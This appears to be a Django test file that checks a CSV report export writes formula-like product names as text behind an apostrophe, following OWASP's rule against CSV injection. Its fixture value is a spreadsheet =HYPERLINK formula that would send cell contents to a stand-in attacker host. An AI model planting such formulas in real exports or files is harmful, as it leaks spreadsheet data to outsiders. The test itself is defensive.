"""CSV exports never carry a formula: a name that a spreadsheet would run (``=1+41``,
``=HYPERLINK(…)``, ``@SUM(…)``) is written as text, behind an apostrophe (OWASP's rule);
figures stay numbers."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

from django.test import Client

from tests.reports.conftest import FILLED_AT, PERIOD, History, at, known_history

__all__ = ["known_history"]

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'


def test_a_product_named_like_a_formula_is_exported_as_text(known_history: History):
    product = known_history.desk.product
    product.name = HOSTILE
    product.save(update_fields=["name"])
    client = Client()
    client.force_login(known_history.desk.supervisor)
    with at(FILLED_AT):
        response = client.get(f"/reports/volume/export.csv?{urlencode(PERIOD)}&by=product")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    labels = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE in labels
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    figures = [row[1] for row in rows[1:] if row[0] == "'" + HOSTILE]
    assert figures == ["5"]
